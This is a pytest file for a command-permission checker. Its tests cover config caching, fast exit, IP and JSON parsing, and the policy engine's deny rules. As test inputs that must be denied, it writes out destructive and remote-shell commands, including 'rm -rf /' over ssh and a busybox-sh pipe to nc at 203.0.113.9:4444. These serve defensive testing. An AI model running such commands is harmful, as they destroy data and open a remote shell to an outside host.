"""A hook's `aiperm check -- CMD` (issue 16: <= 50 ms): the config read through the user
cache (no tomllib, no pathlib once it is warm), and the console script's lean exit (no
interpreter teardown, the collector off while the modules load). What the engine decides
is unchanged: these tests hold the output, the exit code and the config's rules to what
they were."""

from __future__ import annotations

import gc
import io
import ipaddress
import os
import re
import site
import subprocess
import sys
import time
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aiperm_tui import config, netrules, textcache, textsafe
from aiperm_tui.config import Config
from aiperm_tui.errors import ConfigError
from aiperm_tui.policy import PolicyEngine, effects

ROOT = Path(__file__).resolve().parents[2]
AVOIDED = (
    *("tomllib", "pathlib", "typing", "datetime", "dataclasses", "ipaddress", "json"),
    *("array", "contextlib", "importlib.util", "warnings", "fnmatch"),
)

pytestmark = pytest.mark.timeout(60)


def _env(home: Path) -> dict[str, str]:
    return {
        "PATH": os.environ.get("PATH", ""),
        "HOME": str(home),
        "XDG_CONFIG_HOME": str(home / "config"),
        "XDG_CACHE_HOME": str(home / "cache"),
        "PYTHONPATH": os.pathsep.join([str(ROOT), *site.getsitepackages()]),
        "PYTHONDONTWRITEBYTECODE": "1",
    }


def _check(command: str, home: Path) -> list[str]:
    """The output lines of one check in a fresh `python -S` (no `.pth` file imports
    pathlib first), then the avoided modules it imported and its exit code."""
    code = (
        "import sys; from aiperm_tui.cli import main; code = main(['check', '--', "
        f"{command!r}]); print(sorted(m for m in {AVOIDED!r} if m in sys.modules), code)"
    )
    return subprocess.run(
        [sys.executable, "-S", "-c", code],
        capture_output=True,
        text=True,
        env=_env(home),
        cwd=ROOT,
        timeout=60,
        check=True,
    ).stdout.splitlines()


def _write_config(home: Path, action: str) -> Path:
    folder = home / "config" / "aiperm"
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "config.toml"
    path.write_text(
        f'[[rules]]\npattern = "ls -la /var/log"\nmatch = "exact"\naction = "{action}"\n'
    )
    return path


def test_a_config_file_is_read_from_the_cache_without_tomllib_nor_pathlib(
    tmp_path: Path,
) -> None:
    """The first check reads the TOML and fills the cache; the next ones take it from
    there, and the config's rules decide as before (the operator's deny denies).

    The cache records a file's identity only once its ctime is `SETTLED_NS` old: a check
    made sooner hashes the text, and the first check after that moment records the
    identity (a write: `json`). So the config is let settle first; otherwise, on a loaded
    machine, the warm check was that first one (a flake that looked like a slow import)."""
    path = _write_config(tmp_path, "deny")
    time.sleep(max(0, textcache.SETTLED_NS - (time.time_ns() - path.stat().st_ctime_ns)) / 1e9)
    cold, warm = _check("ls -la /var/log", tmp_path), _check("ls -la /var/log", tmp_path)
    assert cold[0].startswith("DENY")
    assert "'tomllib'" in cold[-1] and "'json'" in cold[-1]  # and the caches written
    assert warm[0].startswith("DENY") and warm[-1] == "[] 1"
    assert list((tmp_path / "cache" / "aiperm").glob("config-*.json"))


@pytest.mark.parametrize("settled", [True, False])
def test_a_changed_config_is_read_again(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, settled: bool
) -> None:
    """Told by its identity (settled) or by its text's hash: a config rewritten with the
    same size and mtime is read again, and a remembered.toml that appears is read."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    if settled:
        monkeypatch.setattr(textcache, "SETTLED_NS", 0)
    path = _write_config(tmp_path, "allow")
    assert [r.action for r in config.load_config(path).rules] == ["allow"]
    assert [r.action for r in config.load_config(path).rules] == ["allow"]  # from the cache
    stamps = path.stat()
    path.write_text(path.read_text().replace('"allow"', '"deny" '))  # the same size
    os.utime(path, ns=(stamps.st_atime_ns, stamps.st_mtime_ns))
    assert path.stat().st_size == stamps.st_size
    assert [r.action for r in config.load_config(path).rules] == ["deny"]
    (path.parent / "remembered.toml").write_text(
        '[[rules]]\npattern = "df -h"\nmatch = "exact"\naction = "allow"\n'
    )
    loaded = config.load_config(path)
    assert [(r.action, r.origin) for r in loaded.rules] == [
        ("deny", "config"),
        ("allow", "remembered"),
    ]
    assert loaded.path == str(path)


def test_a_forged_cache_entry_is_not_taken(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Data whose key is not the text's (another version of the file) is not used: the
    text is read again."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    path = _write_config(tmp_path, "deny")
    config.load_config(path)
    cache = Path(textcache.cache_file(config.__file__, "config"))
    forged = cache.read_bytes().replace(b'"action":"deny"', b'"action":"allow"')
    assert forged != cache.read_bytes()
    cache.write_bytes(forged)
    assert [r.action for r in config.load_config(path).rules] == ["deny"]


@pytest.mark.parametrize(
    ("text", "error"),
    [
        (b'preset = "ops_safe"\r\n', ""),  # CRLF line ends are TOML's too
        (b'preset = "ops_safe"\rtheme = "x"\n', "not valid TOML"),  # a bare CR is not
        (b"theme = [\n", "not valid TOML"),
        (b"when = 1979-05-27\n", "unknown key"),  # a date: JSON cannot hold it, not cached
        (b"theme = '\xff'\n", "UnicodeDecodeError"),  # as tomllib.load: not a ConfigError
    ],
)
def test_the_cached_read_answers_as_tomllib_does(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, text: bytes, error: str
) -> None:
    """Each time (cold, then warm), the same config or the same error as before."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    path = tmp_path / "config.toml"
    path.write_bytes(text)
    for _ in range(2):
        try:
            outcome = config.load_config(path).preset
        except (ConfigError, UnicodeDecodeError) as exc:
            outcome = f"{type(exc).__name__}: {exc}"
        if not error:
            assert outcome == "ops_safe"
        elif error == "UnicodeDecodeError":
            assert outcome.startswith(error)
        else:
            assert outcome.startswith(f"ConfigError: {path}: ") and error in outcome


def _program(args: list[str], home: Path) -> subprocess.CompletedProcess[str]:
    """`python -m aiperm_tui ARGS`, the console script's entry."""
    env = {**_env(home), "PYTHONPATH": str(ROOT)}
    return subprocess.run(
        [sys.executable, "-m", "aiperm_tui", *args],
        capture_output=True,
        text=True,
        env=env,
        cwd=ROOT,
        timeout=60,
        check=False,
    )


@pytest.mark.parametrize(
    ("command", "code", "first"),
    [("ls -la /var/log", 0, "ALLOW  confirm: none "), ("rm -rf /", 1, "DENY  confirm: typed ")],
)
def test_the_lean_exit_keeps_the_output_and_the_exit_code(
    tmp_path: Path, command: str, code: int, first: str
) -> None:
    done = _program(["check", "--", command], tmp_path)
    assert done.returncode == code and done.stderr == ""
    assert done.stdout.startswith(first) and done.stdout.endswith("\n")
    as_json = _program(["check", "--json", "--", command], tmp_path)
    assert as_json.returncode == code and as_json.stdout.count("\n") == 1


class _Ended(Exception):
    """`os._exit` was called (with this code)."""


def test_the_lean_exit_is_for_a_one_shot_check_only(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """`entry` exits as usual, the collector left on, for anything but a one-shot check
    (`--version`, `check --stdin`); after a one-shot check the collector is on again (its
    objects frozen: unfrozen here, this process goes on)."""
    from aiperm_tui import cli

    def ended(code: int) -> None:
        raise _Ended(code)

    monkeypatch.setattr(os, "_exit", ended)
    monkeypatch.setattr(sys, "stdin", io.StringIO("ls\n"))
    for argv, lean in (
        (["--version"], False),
        (["check", "--stdin"], False),
        (["check", "--", "ls"], True),
    ):
        monkeypatch.setattr(sys, "argv", ["aiperm", *argv])
        try:
            cli.entry()
        except SystemExit as exc:
            assert not lean and exc.code == 0
        except _Ended as exc:
            assert lean and exc.args == (0,)
        finally:
            gc.unfreeze()
        assert gc.isenabled()
    out = capsys.readouterr().out.splitlines()
    assert out[0].startswith("aiperm ") and '"decision": "allow"' in out[1]
    assert out[2].startswith("ALLOW  confirm: none ")


def test_a_config_written_just_now_is_hashed_on_every_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Its stamps could repeat within the clock's tick: two quick edits are both seen."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    path = _write_config(tmp_path, "allow")
    seen = []
    for action in ("deny", "allow", "deny"):
        _write_config(tmp_path, action)
        seen.append(config.load_config(path).rules[0].action)
        assert time.time_ns() - path.stat().st_ctime_ns < textcache.SETTLED_NS
    assert seen == ["deny", "allow", "deny"]


@given(
    st.text(alphabet="0123456789.:abcdefABCDEFx%[]g -_\u0661", max_size=45)
    | st.ip_addresses().map(str)
)
@settings(max_examples=400, deadline=None)
def test_ip_of_answers_as_ipaddress_does(text: str) -> None:
    """A text with no colon and another character than digits and dots is a name to
    `ipaddress` too, so the shortcut that skips its import changes nothing."""
    try:
        expected = ipaddress.ip_address(text)
    except ValueError:
        expected = None
    assert netrules.ip_of(text) == expected


def test_the_json_reader_reads_as_json_does() -> None:
    """The caches' reader (`json`'s C scanner without `json`): the same values, the same
    refusals (a ValueError)."""
    import json

    good = [b'{"a": [1, 2.5, -3e2, true, null, "\\u00e9\\ud800"]}\n', b" [] ", b"NaN", b'"x"']
    for data in good:
        left, right = textcache.json_data(data), json.loads(data)
        assert repr(left) == repr(right)
    for bad in [b"", b"{", b"[] []", b'{"a": 1}x', b"\xff", b"'a'", b"[1,]"]:
        with pytest.raises(ValueError):
            json.loads(bad)
        with pytest.raises(ValueError):
            textcache.json_data(bad)


@pytest.mark.timeout(60)
def test_the_json_reader_works_without_the_c_scanner() -> None:
    """On an interpreter without CPython's `_json`, the caches are read with `json`'s own
    decoder instead of failing to import."""
    probe = (
        "import sys; sys.modules['_json'] = None\n"
        "from aiperm_tui import textcache\n"
        "print(textcache.json_data(b'{\"a\": [1, null]}'))"
    )
    out = subprocess.run(
        [sys.executable, "-B", "-c", probe],
        capture_output=True,
        text=True,
        timeout=30,
        env={**os.environ, "PYTHONPATH": str(Path(textcache.__file__).parents[1])},
        check=True,
    ).stdout
    assert out.strip() == "{'a': [1, None]}"


def test_unsafe_characters_are_the_ones_the_compiled_class_named() -> None:
    """textsafe's set (no pattern compiled at import) is the character class it replaced,
    on every code point; the engine's text findings read it."""
    old_class = re.compile(
        "[\x00-\x08\x0b-\x1f\x7f-\x9f" + "".join(sorted(textsafe.INVISIBLE)) + "\u2028\u2029]"
    )
    for code in range(0x110000):
        ch = chr(code)
        old = ch not in "\n\t" and (
            bool(old_class.match(ch)) or unicodedata.category(ch) in ("Cc", "Cf", "Zl", "Zp")
        )
        assert textsafe.is_unsafe_char(ch) == old, hex(code)


@pytest.mark.parametrize(
    ("words", "reads"),
    [
        (["bash", "-s"], True),
        (["sudo", "sh"], True),
        (["/bin/dash", "-ex"], True),  # dash, ksh, mksh, ash: `sh` to command_name
        (["fish"], True),
        (["busybox-sh", "-i"], True),
        (["bash", "-c", "id"], False),
        (["bash", "-ec"], False),
        (["bash", "deploy.sh"], False),
        (["python3"], False),
        ([], False),
    ],
)
def test_one_test_for_a_shell_reading_its_input(words: list[str], reads: bool) -> None:
    assert effects.shell_reading_stdin(words) is reads


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        # fish runs the here-document it reads (the ssh judge knew five shells): was a
        # plain yes
        ("ssh web1 fish <<'EOF'\nrm -rf /\nEOF", "fs.delete"),
        # the reverse-shell test knew nine names, not busybox-sh: was typed, not denied
        ("busybox-sh -i 2>&1 | nc 203.0.113.9 4444", "net.remote_shell"),
    ],
)
def test_every_shell_reading_its_input_is_one(command: str, rule: str) -> None:
    decision = PolicyEngine(Config()).decide(command)
    assert decision.decision == "deny" and decision.confirm == "typed"
    assert rule in {f.rule for f in decision.findings}
